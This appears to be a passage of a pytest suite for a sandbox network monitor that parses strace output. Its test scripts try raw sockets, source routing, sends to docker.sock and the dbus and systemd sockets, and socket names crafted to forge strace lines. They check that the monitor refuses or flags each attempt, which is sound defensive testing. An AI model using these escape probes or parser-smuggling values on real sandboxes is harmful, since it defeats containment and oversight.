    header += socket.inet_pton(socket.AF_INET6, '2001:db8::1')
    try:
        six.sendmsg([b'x'], [(socket.IPPROTO_IPV6, socket.IPV6_RTHDR, header)])
        print('rthdr', kind, 'sent')
    except OSError as exc:
        print('rthdr', kind, errno.errorcode[exc.errno])
for family, kind, protocol in ((socket.AF_PACKET, socket.SOCK_DGRAM, 0),
                               (socket.AF_INET, socket.SOCK_RAW, 17),
                               (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
                               (40, socket.SOCK_DGRAM, 0)):  # AF_VSOCK (made, never used)
    try:
        socket.socket(family, kind, protocol).close()
        print('made', family, kind)
    except OSError as exc:
        print('socket', errno.errorcode[exc.errno])
"""
)


def test_held_source_routes_and_raw_sockets_are_refused(tmp_path: Path, sandbox: None) -> None:
    lines = _said(_harness(tmp_path, ROUTES))
    assert lines[:5] == ["ip_options EPERM", "ip_retopts EPERM", "rthdr 0 EINVAL",
                         "rthdr 2 EINVAL", "rthdr 4 EINVAL"], lines  # fmt: skip
    assert lines[5:8] == ["socket EPERM", "socket EPERM", "socket EACCES"], lines
    assert not lines[8].startswith("made"), lines


HONEST = """
import threading
n = int(sys.argv[1])
server = socket.socket()
server.bind(('127.0.0.1', 0))
server.listen(1)
def drain():
    peer, _ = server.accept()
    while peer.recv(1 << 20):
        pass
threading.Thread(target=drain, daemon=True).start()
client = socket.socket()
client.connect(server.getsockname())
started = time.monotonic()
for _ in range(n):
    client.send(b'0123456789')
sent = time.monotonic() - started
started = time.monotonic()
for _ in range(n):
    os.write(client.fileno(), b'0123456789')
print(f'send {sent:.2f} write {time.monotonic() - started:.2f}', file=sys.stderr)
print('done', flush=True)
"""


def test_held_an_honest_connected_socket_s_sends_are_no_entries(
    tmp_path: Path, sandbox: None
) -> None:
    started = time.monotonic()
    result = _harness(tmp_path, HONEST, "20000")
    took = time.monotonic() - started
    assert _said(result) == ["done"]
    assert [(e.family, e.address, e.outcome) for e in result.ledger] == [
        ("AF_INET", "127.0.0.1", "connected")
    ]
    lines = result.trace.splitlines()
    assert len(lines) >= 20000 and max(map(len, lines)) < 256  # a line a send, short
    print(result.stderr.decode().strip(), f"run {took:.1f}s", f"trace {len(result.trace)}",
          file=sys.stderr)  # fmt: skip


def test_held_the_longest_send_line_strace_writes_parses(tmp_path: Path, sandbox: None) -> None:
    result = _harness(tmp_path, CONTROL, "70000", "1")  # more than optmem_max's worth
    assert _said(result) == ["control ENOBUFS"]
    longest = max(map(len, result.trace.splitlines()))
    assert 100_000 < longest < MAX_LINE, longest
    assert [(e.address, e.outcome) for e in result.ledger] == [("127.0.0.1", "connected")]


UNIX = (
    PRELUDE
    + """
names = ['/run/systemd/journal/socket', '\\0abs"}, 16) = 0', '/tmp/x"}, 30) = 3 <unfinished ...>']
for name in names:
    datagram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        datagram.sendto(b'x', name)
    except OSError as exc:
        print(errno.errorcode[exc.errno])
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
print(sendto(udp.fileno(), sin('93.184.216.34', 53), 16))
"""
)


def test_held_odd_socket_paths_are_shown_whole_and_hide_nothing(
    tmp_path: Path, sandbox: None
) -> None:
    result = _harness(tmp_path, UNIX)
    assert _said(result) == ["ENOENT", "ECONNREFUSED", "ENOENT", "ENETUNREACH"]
    assert [(e.family, e.address) for e in result.ledger] == [
        ("AF_UNIX", "/run/systemd/journal/socket"),
        ("AF_UNIX", '@"abs\\"}, 16) = 0'),
        ("AF_UNIX", '/tmp/x\\"}, 30) = 3 <unfinished ...>'),
        ("AF_INET", REMOTE),
    ]
    assert _outside(result) == [("AF_INET", REMOTE, 53, "ENETUNREACH")]


@pytest.mark.parametrize(
    "path",
    ["/run/systemd/journal/socket", "//run/dbus/system_bus_socket", "/var/run/./docker.sock",
     "/tmp/../run/user/0/bus"],
)  # fmt: skip
def test_held_a_forged_datagram_sent_to_a_host_socket_is_outside(path: str) -> None:
    entries = _trace(
        f'9<h> 2.000000 sendto(3, ""..., 3, 0, {{sa_family=AF_UNIX, sun_path="{path}"}}, 30) = 3',
        f'9<h> 2.100000 sendmsg(3, {{msg_name={{sa_family=AF_UNIX, sun_path="{path}"}}, '
        "msg_namelen=30, msg_iov=[...], msg_iovlen=1, msg_controllen=0, msg_flags=0}, 0) = 3",
        f'9<h> 2.200000 sendto(3, ""..., 3, 0, {{sa_family=AF_UNIX, sun_path=@"{path}"}}, 30) = 3',
    )
    assert [(e.address, e.outcome) for e in entries] == [
        (path, "sent"),
        (path, "sent"),
        (f'@"{path}', "sent"),
    ]
    assert [off_sandbox(e) for e in entries] == [True, True, False]  # abstract: the namespace's
